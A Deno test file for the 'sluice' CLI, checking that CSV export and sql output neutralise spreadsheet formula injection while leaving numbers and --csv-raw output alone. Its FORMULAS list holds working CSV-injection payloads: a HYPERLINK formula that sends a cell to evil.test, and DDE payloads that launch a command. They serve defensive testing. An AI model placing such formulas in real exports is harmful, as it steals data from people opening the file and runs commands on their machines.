/**
 * Issue 19 item 8: CSV that sluice writes is safe to open in a spreadsheet.
 * Text from queries or from a server's answers that starts with `=`, `+`,
 * `-`, `@`, a tab or a carriage return is prefixed with `'` in `export
 * --format csv` and `sql --format csv`; real numbers (and text that is only a
 * number) stay as they are; `--csv-raw` keeps everything as it is.
 */
import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import { inTempDir, sluice, writeJsonl } from "./_cli.ts";

/** Formulas a spreadsheet would run, as a query's field and as a server's answer. */
const FORMULAS = [
  '=HYPERLINK("http://evil.test/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+2",
  "\r=1+2",
];

/** Answers each request with the text of `?i=` from FORMULAS, and `-5` for `?i=n`. */
function serveFormulas(): Deno.HttpServer<Deno.NetAddr> {
  return Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
    const i = new URL(request.url).searchParams.get("i") ?? "";
    return new Response(i === "n" ? "-5" : FORMULAS[Number(i)]);
  });
}

Deno.test("export and sql as CSV neutralize formulas from queries and answers; numbers stay; --csv-raw keeps them", async () => {
  await inTempDir(async (dir) => {
    const server = serveFormulas();
    try {
      const queries = [
        ...FORMULAS.map((f, i) => ({ id: `k${i}`, i: String(i), q: f, n: -5 })),
        { id: "=key", i: "n", q: "-5", n: -1.5 },
      ];
      await writeJsonl(`${dir}/q.jsonl`, queries);
      const db = `file:${dir}/f.db`;
      const run = await sluice(dir, [
        "run",
        "q.jsonl",
        "--url",
        `http://127.0.0.1:${server.addr.port}/?i={{i}}`,
        "--rate",
        "none",
        "--db",
        db,
        "--quiet",
      ]);
      assert.equal(run.code, 0, run.stderr);

      const exported = await sluice(dir, ["export", "--db", db, "--format", "csv"]);
      assert.equal(exported.code, 0, exported.stderr);
      const rows = parse(exported.stdout, { columns: true }) as Record<string, string>[];
      const byKey = new Map(rows.map((r) => [r.key, r]));
      for (const [i, formula] of FORMULAS.entries()) {
        const row = byKey.get(`k${i}`)!;
        assert.equal(row.body, `'${formula}`, `answer ${i}`);
        assert.equal(row["vars.q"], `'${formula}`, `query ${i}`);
        assert.equal(row["vars.n"], "-5", "a number in a query is a number");
      }
      // A key is text too; text that is only a number, and numbers, are not formulas.
      const plain = byKey.get("'=key")!;
      assert.deepEqual([plain.body, plain["vars.q"], plain["vars.n"]], ["-5", "-5", "-1.5"]);
      for (const cell of rows.flatMap((r) => Object.values(r))) {
        assert.ok(!/^[=+@\t\r]/.test(cell) && !/^-[^0-9.]/.test(cell), `unsafe cell ${cell}`);
      }

      const raw = await sluice(dir, ["export", "--db", db, "--format", "csv", "--csv-raw"]);
      const rawRows = parse(raw.stdout, { columns: true }) as Record<string, string>[];
      assert.deepEqual(
        rawRows.filter((r) => r.key !== "=key").map((r) => [r.body, r["vars.q"]]),
        FORMULAS.map((f) => [f, f]),
      );

      // sql: text from a column is neutralized, an INTEGER or REAL column's negative numbers kept.
      const query = `SELECT r.body, i.vars ->> '$.n' AS n, -5 AS minus, 'x' AS "=col"
        FROM items i JOIN responses r ON r.item = i.id WHERE i.key IN ('k0', '=key') ORDER BY i.id`;
      const sql = await sluice(dir, ["sql", "--db", db, "--format", "csv", query]);
      assert.equal(sql.code, 0, sql.stderr);
      assert.deepEqual(parse(sql.stdout), [
        ["body", "n", "minus", "'=col"],
        [`'${FORMULAS[0]}`, "-5", "-5", "x"],
        ["-5", "-1.5", "-5", "x"],
      ]);
      const sqlRaw = await sluice(dir, ["sql", "--db", db, "--csv-raw", query]);
      assert.deepEqual(parse(sqlRaw.stdout)[1], [FORMULAS[0], "-5", "-5", "x"]);
    } finally {
      await server.shutdown();
    }
  });
});
